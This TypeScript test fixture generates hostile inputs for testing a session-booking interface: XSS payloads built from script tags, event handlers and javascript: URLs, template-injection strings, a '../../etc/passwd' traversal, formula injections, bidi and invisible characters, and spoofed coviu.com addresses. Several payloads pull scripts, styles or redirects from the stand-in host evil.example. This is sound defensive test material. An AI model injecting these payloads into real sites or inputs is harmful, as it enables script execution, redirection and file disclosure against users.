import type { createSandbox } from "../../src/sandbox/index.ts";

type Sandbox = ReturnType<typeof createSandbox>;
type Row = Record<string, unknown>;

/** Markup. A script that runs calls `hit()`. */
const markup = [
  "<script>hit()</script>",
  "<script src=https://evil.example/a.js></script>",
  '"><script>hit()</script>',
  "</title></style></textarea></script><script>hit()</script>",
  "<img src=x onerror=hit()>",
  "<img src=https://evil.example/a.png>",
  "<svg onload=hit()><circle r=9 /></svg>",
  "<svg><script>hit()</script></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
  "<math><mtext><mglyph><style><img src=x onerror=hit()>",
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  "<iframe src=javascript:parent.hit()></iframe>",
  "<object data=javascript:hit()></object>",
  "<embed src=javascript:hit()>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=0;url=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<link rel=prefetch href=https://evil.example/>",
  "<style>@import url(https://evil.example/a.css);*{display:none}</style>",
  "<body onload=hit()>",
  "<input autofocus onfocus=hit()>",
  "<details open ontoggle=hit()>",
  "<video><source onerror=hit()></video>",
  "<audio src=x onerror=hit()>",
  "<marquee onstart=hit()>",
  "<template><script>hit()</script></template>",
  "<form action=javascript:hit()><button>Join</button></form>",
  "<a href=javascript:hit()>Join</a>",
  "<a href=https://evil.example/ ping=https://evil.example/ping>Join</a>",
  "<!--<img src=--><img src=x onerror=hit()//>",
  "<![CDATA[<script>hit()</script>]]>",
  "<?xml version='1.0'?><script>hit()</script>",
  "<plaintext>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit()</x:script>",
  "&lt;script&gt;hit()&lt;/script&gt;",
  "&#60;script&#62;hit()&#60;/script&#62;",
  "&amp;&nbsp;&zwj;&#x202e;abc",
  "' onmouseover='hit()",
  '" autofocus onfocus="hit()',
  "` onclick=hit() `",
  "</bdi></p></li></ul><h1>Front desk</h1>",
];

const templates = [
  "${hit()}",
  "{{hit()}}",
  "{{constructor.constructor('hit()')()}}",
  "<%= hit() %>",
  "#{hit()}",
  "{%raw%}{{hit()}}{%endraw%}",
  "javascript:hit()",
  "data:text/html,<script>hit()</script>",
  "url(javascript:hit())",
  "expression(hit())",
  "%3Cscript%3Ehit()%3C/script%3E",
  "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "undefined",
  "null",
  "NaN",
  "[object Object]",
  "%s %d %c %o",
  "$& $1 $` $'",
  "=1+1",
  "@SUM(A1)",
  "../../etc/passwd",
];

const bidi = [
  "\u202egnp.exe",
  "Ana \u202e(tsoh)",
  "Ana \u202dLee\u202c",
  "\u2066Ana\u2069\u2069\u2069 (host)",
  "\u2067Ana Lee",
  "Ana\u2068",
  "\u200fAna\u200e",
  "\u061cAna",
  "אבג (host)",
  "אבג 123",
  "123 אבג!",
  "محمد (2)",
  "محمد, 10:00 – 10:30 am",
  "Ana אבג Lee",
  "\u202e\u202e\u202e\u202eHost\u202c",
];

const invisible = [
  "Ana\u200bLee",
  "A\u2060n\u2060a",
  "Ana\u00adLee",
  "\u200dAna\u200d",
  "Ho\u200bst",
  "Ana\u{e0041}\u{e0042}",
  "Ana\ufe0f\ufe0f",
  "Ana\u180e",
  "Ana\ufff9Lee\ufffb",
  "\u00a0Ana\u2003Lee\u3000",
  "\ufeffAna",
  "Ana\ufeff",
  "\u0000Ana\u0000",
  "Ana\u0007\u001b[31mLee",
  "Ana\r\nLee",
  "Ana\u2028Lee\u2029",
  "Ana\tLee",
  "\ud800",
  "Ana\udfffLee",
  "\udc00\ud800",
  "Ana\u007f\u0080\u009f",
  "\ue000Ana",
  "\u{10ffff}Ana",
];

const blank = ["", " ", "\u00a0\u00a0", "\u200b", "\u3164", "\u2800\u2800", "\u115f", "\u200d\u200c", "\t\n", "\u202e"];

const stacks = [
  `A${"\u0301".repeat(40)}na`,
  `Z${"\u0335\u0322\u034e\u0300".repeat(30)}algo`,
  `กู${"\u0e49".repeat(40)}`,
  `ส${"\u0e47".repeat(60)}`,
  "e\u0323\u0302\u0301".repeat(40),
  `a${"\u20dd".repeat(20)}b`,
  `م${"\u0651\u064f".repeat(30)}`,
  "\u0301\u0301\u0301",
];

const emoji = [
  "👩\u200d👩\u200d👧\u200d👦",
  "👨🏿\u200d⚕️ Dr Okafor",
  "🏳️\u200d🌈🏴\u200d☠️",
  "🇦🇺🇳🇿🇦🇺",
  "1️⃣2️⃣",
  "👩\u200d👩\u200d👧\u200d👦".repeat(60),
  "🫠 Ana 🫠",
];

const long = [
  "x".repeat(10_000),
  "W".repeat(256),
  "Ana Lee ".repeat(1_250),
  "漢".repeat(10_000),
  "\u00a0Ana".repeat(2_500),
  "אבגדה".repeat(2_000),
  `a${"\u0301".repeat(10_000)}`,
  `a${"\u0315\u0300".repeat(5_000)}`,
  "👩\u200d".repeat(5_000),
  "-".repeat(10_000),
  "https://evil.example/".repeat(400),
];

/** Texts of the kit itself. */
export const kitTexts = [
  "Session booked",
  "Session booked.",
  "Session booked. 3 links are ready to send.",
  "Session canceled",
  "Cancel this session?",
  "Ana Lee removed",
  "Nobody",
  "Host",
  "host",
  "Ana Lee Host",
  "Ana Lee (host)",
  "Ana Lee, host",
  "Guest",
  "Enters directly",
  "Copy link",
  "Join",
  "Link for Ana Lee (guest) copied",
  "Ana (guest) copied. Link for Bo",
  "You’re not signed in",
  "We couldn’t reach the service. Nothing has changed.",
  "The service says: “all is well”",
  "” Session booked. “",
  "Entry link, hidden",
  "Active",
  "No upcoming sessions",
];

export const plainTexts = new Set([...markup, ...templates, ...kitTexts]);

const singles = [
  ...markup,
  ...templates,
  ...bidi,
  ...invisible,
  ...blank,
  ...stacks,
  ...emoji,
  ...long,
  ...kitTexts,
] as const;

/** Different hostile texts, first each single one, then pairs. The same seed gives the same texts. */
export function hostileTexts(count: number, seed = 1): string[] {
  const texts = new Set<string>(singles);
  const pick = picker(seed);
  while (texts.size < count) texts.add(`${pick(singles)}${pick(["", " ", ", ", "\n"])}${pick(singles)}`);
  return [...texts].slice(0, count);
}

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
  "data:text/html,",
  "data:image/svg+xml,",
  "vbscript:",
  "blob:",
  "file:",
  "filesystem:",
  "about:",
  "http:",
  "HTTP:",
  "ftp:",
  "ws:",
  "mailto:",
  "tel:",
  "intent:",
  "view-source:",
  "",
  "https:",
  "HTTPS:",
  "https&colon;",
  "ht\ttps:",
  "ht\ntps:",
  " https:",
  "\u00a0https:",
  "ｈttps:",
];
const slashes = ["//", "\\\\", "/\\", "/", "///", "", "\t//", "／／", "//\u200b"];
const hosts = [
  "evil.example",
  "coviu.com",
  "coviu.com.evil.example",
  "evilcoviu.com",
  "coviu.com-evil.example",
  "coviu.com.",
  "coviu.com:8443",
  "coviu.com:443:80",
  "user@coviu.com",
  "user:pass@coviu.com",
  "coviu.com@evil.example",
  "coviu.com:443@evil.example",
  "coviu.com\\@evil.example",
  "coviu.com%2f@evil.example",
  "evil.example#.coviu.com",
  "evil.example?.coviu.com",
  "evil.example\\.coviu.com",
  "evil.example/.coviu.com",
  "evil.example%00.coviu.com",
  "сoviu.com",
  "coviu。com",
  "ｃｏｖｉｕ.com",
  "xn--oviu-63d.com",
  "co\nviu.com",
  "co\u00adviu.com",
  "COVIU.COM.EVIL.EXAMPLE",
  "127.0.0.1",
  "[::1]",
  "0x7f000001",
  "localhost",
  ".coviu.com",
  "coviu..com",
];

/** Different URLs that must not be used. The same seed gives the same URLs. */
export function hostileAddresses(count: number, seed = 1): string[] {
  const pick = picker(seed);
  const addresses = new Set<string>();
  for (const scheme of schemes) addresses.add(`${scheme}hit()`).add(`${scheme}//coviu.com/%0ahit()`);
  for (const host of hosts) addresses.add(`https://${host}/session/1`).add(`//${host}/session/1`);
  for (const slash of slashes) addresses.add(`https:${slash}coviu.com/session/1`);
  while (addresses.size < count + 20) {
    addresses.add(
      `${pick(schemes)}${pick(slashes)}${pick(hosts)}${pick(["/session/1", "", "/a.png", "?hit()", "#hit()"])}`,
    );
  }
  return [...addresses].filter((address) => !validUrl.test(address)).slice(0, count);
}

/** Random combinations also produce a few valid URLs. */
const validUrl = /^https:\/\/coviu\.com(?:[/?#]|$)/i;

/** Client options for the sandbox in which `edit` changes every object in the responses. */
export function withEditedResponses(sandbox: Sandbox, edit: (row: Row) => Row) {
  const isRow = (value: unknown): value is Row => typeof value === "object" && value !== null && !Array.isArray(value);
  return {
    ...sandbox,
    fetch: async (input: RequestInfo | URL, init?: RequestInit) => {
      const response = await sandbox.fetch(input, init);
      const body: unknown = JSON.parse(await response.text(), (_, value: unknown) =>
        isRow(value) ? edit(value) : value,
      );
      return new Response(JSON.stringify(body), { status: response.status, headers: response.headers });
    },
  };
}

function picker(seed: number) {
  let state = seed;
  return <Item>(items: readonly Item[]): Item => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    const item = items[Math.floor((state / 2 ** 32) * items.length)];
    if (item === undefined) throw new Error("The list is empty.");
    return item;
  };
}
